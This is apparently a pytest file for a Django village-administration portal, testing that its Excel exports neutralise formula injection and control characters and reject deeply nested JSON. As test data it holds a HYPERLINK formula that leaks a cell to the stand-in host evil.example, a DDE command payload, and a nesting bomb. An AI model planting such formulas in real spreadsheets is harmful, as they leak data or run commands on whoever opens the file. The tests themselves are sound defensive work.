"""No desa can break or arm the kecamatan's spreadsheets, and no malformed body makes a 500.

Reproduced first on the old main: a perangkat named ``Dewi\\vLain`` made the perangkat export answer 500
(openpyxl IllegalCharacterError) for the whole kecamatan, and ``=HYPERLINK(…)`` came out as a live formula."""

from __future__ import annotations

import io
import json

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from portal.exports import safe_cell_text, safe_row, workbook_bytes
from portal.models import Perangkat
from portal.validators import clean_text

ARMED = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")'


def cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def formulas(content: bytes) -> list[str]:
    return [c.value for c in cells(content) if c.data_type == "f"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Dewi\x0bLain", "DewiLain"),
        ("Kegiatan\x1bX", "KegiatanX"),
        ("nol\x00byte\x7f\x85", "nolbyte"),
        ("baris 1\nbaris 2\ttab\r", "baris 1\nbaris 2\ttab\r"),  # line breaks and tabs are text
        ("Huruf Indonesia: Rp 1.234.567 – é ñ", "Huruf Indonesia: Rp 1.234.567 – é ñ"),
    ],
)
def test_clean_text(text, expected):
    assert clean_text(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+62 812", "'+62 812"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "-"),
        ("Jalan = 250 m", "Jalan = 250 m"),
    ],
)
def test_safe_cell_text(text, expected):
    assert safe_cell_text(text) == expected


def test_the_writer_neutralises_every_cell_of_every_sheet():
    wb = Workbook()
    wb.active.append(safe_row([ARMED, "Dewi\x0bLain", 5, -3]))
    # A cell written without safe_row (a template, a future export) is still kept as text at save time.
    wb.create_sheet("Dua").cell(row=3, column=2, value="=1+2")
    content = workbook_bytes(wb)
    assert formulas(content) == []
    values = [c.value for c in cells(content) if c.value is not None]
    assert values == ["'" + ARMED, "DewiLain", 5, -3, "'=1+2"]


def test_control_characters_are_cleaned_where_they_enter_the_api(tenancy):
    api = tenancy.client(tenancy.operator_a)
    payload = {"desa": "35.24.13.2001", "nama": "Dewi\u000bLain", "jabatan": "kaur_keuangan"}
    response = api.post(reverse("api:perangkat-list"), payload, format="json")
    assert response.status_code == 201, response.content
    assert response.json()["nama"] == "DewiLain"
    # A multipart/form body is cleaned the same way.
    response = api.post(reverse("api:perangkat-list"), {**payload, "nama": "Sri\x1bWahyuni"}, format="multipart")
    assert response.status_code == 201 and Perangkat.objects.filter(nama="SriWahyuni").exists()


def test_control_characters_are_cleaned_where_they_enter_a_web_form(tenancy, client):
    client.force_login(tenancy.operator_a)
    response = client.post(
        reverse("perangkat-create"),
        {"desa": tenancy.desa_a.pk, "nama": "Budi\x0bSantoso", "jabatan": "kaur_tu_umum", "jenis_kelamin": "L"},
    )
    assert response.status_code in (200, 302)
    assert Perangkat.objects.filter(nama="BudiSantoso").exists()
    assert not Perangkat.objects.filter(nama__contains="\x0b").exists()


def test_the_perangkat_export_survives_what_an_old_row_holds(tenancy, client):
    # Rows written before the cleaner existed (or by a script) still export: the writer cleans too.
    Perangkat.objects.filter(pk=tenancy.perangkat_a.pk).update(nama="Dewi\x0bLain")
    Perangkat.objects.filter(pk=tenancy.perangkat_b.pk).update(nama=ARMED)
    for who in (tenancy.kasi_tapem, tenancy.camat):
        client.force_login(who)
        response = client.get(reverse("perangkat-export"))
        assert response.status_code == 200
        assert formulas(response.content) == []
        names = [c.value for c in cells(response.content)]
        assert "DewiLain" in names and "'" + ARMED in names


@pytest.mark.parametrize("depth", [25, 5000])
def test_deeply_nested_json_is_a_400(tenancy, depth):
    body = "[" * depth + "]" * depth
    response = tenancy.client(tenancy.operator_a).generic(
        "POST", reverse("api:perangkat-list"), body, content_type="application/json"
    )
    assert response.status_code == 400
    assert "terlalu dalam" in response.json()["detail"]


def test_nested_json_within_the_limit_still_parses(tenancy):
    body = json.dumps({"desa": "35.24.13.2001", "nama": "Wati", "jabatan": "kaur_tu_umum", "x": [[[1]]]})
    response = tenancy.client(tenancy.operator_a).generic(
        "POST", reverse("api:perangkat-list"), body, content_type="application/json"
    )
    assert response.status_code == 201, response.content


def test_a_proposal_cannot_break_or_arm_the_proposal_export(tenancy):
    from musrenbang.models import Proposal
    from tests.musrenbang.test_api import BODY, Y, url

    api = tenancy.client(tenancy.operator_a)
    created = api.post(
        url("proposal-list"),
        {**BODY, "desa": tenancy.desa_a.kode, "year": Y, "activity": "Kegiatan\x1bX"},
        format="json",
    )
    assert created.status_code == 201, created.content
    assert created.json()["activity"] == "KegiatanX"
    armed = api.post(
        url("proposal-list"),
        {**BODY, "desa": tenancy.desa_a.kode, "year": Y, "activity": "=1+2", "desa_rank": 2},
        format="json",
    )
    assert armed.status_code == 201, armed.content
    Proposal.objects.filter(pk=created.json()["id"]).update(activity="Lama\x0bsekali")  # an old, uncleaned row
    response = tenancy.client(tenancy.kasi_tapem).get(url("proposals-xlsx"), {"year": Y})
    assert response.status_code == 200
    assert formulas(response.content) == []
    values = {c.value for c in cells(response.content)}
    assert "'=1+2" in values and "Lamasekali" in values


def test_monev_list_export_keeps_a_desa_name_as_text(tenancy, client):
    from monev import services
    from tests.monev.conftest import ensure_document_types

    ensure_document_types()
    services.obligations_generate(year=2026)
    tenancy.desa_a.__class__.objects.filter(pk=tenancy.desa_a.pk).update(nama="=cmd|' /C calc'!A0")
    client.force_login(tenancy.kasi_tapem)
    response = client.get(reverse("monev-export-list"), {"tahun": 2026})
    assert response.status_code == 200
    assert formulas(response.content) == []
    assert "'=cmd|' /C calc'!A0" in {c.value for c in cells(response.content)}
